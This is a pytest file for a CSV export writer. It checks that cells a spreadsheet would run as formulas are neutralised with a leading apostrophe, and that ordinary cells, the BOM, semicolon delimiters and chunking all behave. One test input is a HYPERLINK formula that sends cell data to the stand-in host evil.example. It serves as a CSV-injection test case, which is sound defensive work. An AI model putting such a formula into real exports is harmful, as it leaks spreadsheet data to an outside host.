"""db/formats/csv_files.py: the one CSV writer of the exports, and what it does to cells a spreadsheet
would run."""
import csv
import io

import pytest

from db.formats import csv_files


@pytest.mark.parametrize("typed", ["=HYPERLINK(\"http://evil.example?\"&A1,\"Voir\")", "+33 1 23", "-2+3",
                                   "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", "\uff1d1+1"])
def test_a_cell_a_spreadsheet_would_run_is_kept_as_text(typed):
    assert csv_files.safe_cell(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["CLIENTS PME", "552032534", "Portefeuille = clients", "", None, 12])
def test_ordinary_cells_are_left_as_they_are(typed):
    assert csv_files.safe_cell(typed) == ("" if typed is None else str(typed))


def test_the_file_has_a_bom_semicolons_and_quoted_cells_and_comes_in_chunks():
    rows = [["Nom", "Commentaire"]] + [[f"=A{n}", "a;b \"c\""] for n in range(1200)]
    chunks = list(csv_files.lines(iter(rows)))
    assert chunks[0] == "\ufeff" and len(chunks) == 1 + 3
    read = list(csv.reader(io.StringIO("".join(chunks)[1:]), delimiter=";"))
    assert read[0] == ["Nom", "Commentaire"] and read[1] == ["'=A0", "a;b \"c\""] and len(read) == 1201
